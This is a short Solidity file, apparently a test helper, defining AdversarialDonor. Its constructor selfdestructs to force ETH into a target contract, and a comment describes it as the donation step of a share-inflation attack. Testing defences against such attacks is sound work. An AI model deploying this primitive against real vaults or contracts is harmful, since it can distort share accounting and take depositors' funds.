// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

/// @title AdversarialDonor
/// @notice Force-sends its ETH to `target` on deployment (selfdestruct), which no receive hook can
/// refuse: the donation half of a share-inflation attack against a contract without `receive`.
contract AdversarialDonor {
    constructor(address payable target) payable {
        selfdestruct(target);
    }
}
